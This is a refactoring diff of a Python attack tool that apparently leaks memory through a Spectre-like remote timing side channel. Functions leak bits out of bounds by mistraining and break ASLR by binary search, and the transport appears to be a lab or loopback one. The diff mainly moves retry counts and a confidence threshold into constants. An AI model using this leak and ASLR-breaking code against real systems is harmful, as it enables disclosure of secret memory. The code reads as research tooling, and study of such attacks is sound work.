@@ -46,7 +46,6 @@ class ExtractionPlan:
     target_bit_range: tuple[int, int] = (0, 0)   # out-of-bounds bit indices
     decision: str = "mean"               # mean | mode
     histogram: HistogramSpec = field(default_factory=HistogramSpec)
-    low_confidence_z: float = 1.0
     projected_packet_ns: Optional[float] = None  # per-packet cost for rate projection
 
     def validate(self) -> None:
@@ -93,13 +92,15 @@ class BitRead:
     rtts_ns: Optional[np.ndarray] = None
 
 
+REQUEST_RETRIES = 3   # resends of a request that timed out
+
+
 class Session:
     """One measurement loop against one victim."""
 
-    def __init__(self, transport, batched: bool = True, max_retries: int = 3):
+    def __init__(self, transport, batched: bool = True):
         self.transport = transport
         self.batched = batched and isinstance(transport, LoopbackTransport)
-        self.max_retries = max_retries
         self.counters: Counter[int] = Counter()
         self._nonce = 0
         self._wall_reset = False   # victim rejected ADVANCE_CLOCK; sleep instead
@@ -110,7 +111,7 @@ class Session:
         self._nonce += 1
         packet = RequestPacket(opcode, arg, self._nonce)
         last_err = None
-        for _ in range(self.max_retries + 1):
+        for _ in range(REQUEST_RETRIES + 1):
             try:
                 response, rtt = self.transport.request(packet)
             except RequestTimeout as err:
@@ -121,9 +122,6 @@ class Session:
                 raise WireError("response nonce mismatch")
             return response, rtt
         raise last_err
-
-    def reset_victim(self) -> None:
-        self.request(wire.OP_RESET)
 
     def total_requests(self) -> int:
         return sum(self.counters.values())
@@ -150,7 +148,7 @@ class Session:
                  kernel: Callable[[Victim], np.ndarray]) -> np.ndarray:
         """n iterations of ``schedule``; returns the round-trip time of each
         iteration's last request.  Batched, ``kernel(victim)`` runs the
-        victim's closed form of the same n iterations instead."""
+        same n iterations as one victim batch instead."""
         if self.batched:
             cycles = kernel(self.transport.victim)
             self.counters.update(wire.schedule_counts(schedule, n))
@@ -302,6 +300,9 @@ def leak_bit(session: Session, plan: ExtractionPlan, calib: Calibration,
 # Range extraction
 # ---------------------------------------------------------------------------
 
+LOW_CONFIDENCE_Z = 1.0   # |z| below which a leaked bit is reported
+
+
 @dataclass
 class LeakResult:
     bits: list[int]
@@ -352,7 +353,7 @@ def leak_range(session: Session, plan: ExtractionPlan, calib: Calibration,
         read = leak_bit(session, plan, calib, bit_index, keep_samples=keep)
         bits.append(read.bit)
         confidences.append(read.confidence)
-        if abs(read.confidence) < plan.low_confidence_z:
+        if abs(read.confidence) < LOW_CONFIDENCE_Z:
             low_conf.append(pos)
         if keep:
             sample_sink(pos, read.rtts_ns)
@@ -381,6 +382,9 @@ def leak_range(session: Session, plan: ExtractionPlan, calib: Calibration,
 # Derandomization and value recovery
 # ---------------------------------------------------------------------------
 
+ASLR_ROUND_RETRIES = 3   # attempts at a round before it is inconsistent
+
+
 @dataclass
 class AslrRound:
     lo: int
@@ -400,8 +404,8 @@ class AslrResult:
 
 
 def break_aslr(session: Session, aslr_space_bits: int, probes_per_check: int,
-               mistrain: int = 10, calib: Optional[Calibration] = None,
-               max_round_retries: int = 3) -> AslrResult:
+               mistrain: int = 10,
+               calib: Optional[Calibration] = None) -> AslrResult:
     """Binary-search the single cacheable offset out of 2^M candidates.
 
     Each round speculatively probes one half of the remaining range and
@@ -417,7 +421,7 @@ def break_aslr(session: Session, aslr_space_bits: int, probes_per_check: int,
     rounds: list[AslrRound] = []
     while hi - lo > 1:
         mid = (lo + hi) // 2
-        for attempt in range(1, max_round_retries + 1):
+        for attempt in range(1, ASLR_ROUND_RETRIES + 1):
             left = session.collect_aslr(lo, mid, probes_per_check, mistrain)
             right = session.collect_aslr(mid, hi, probes_per_check, mistrain)
             mean_left = float(left.mean())
@@ -429,7 +433,7 @@ def break_aslr(session: Session, aslr_space_bits: int, probes_per_check: int,
         else:
             raise ExtractionError(
                 f"inconsistent rounds for [{lo}, {hi}) after "
-                f"{max_round_retries} retries")
+                f"{ASLR_ROUND_RETRIES} retries")
         rounds.append(AslrRound(lo, hi, mid, mean_left, mean_right,
                                 went_left=hit_left, attempts=attempt))
         if hit_left:
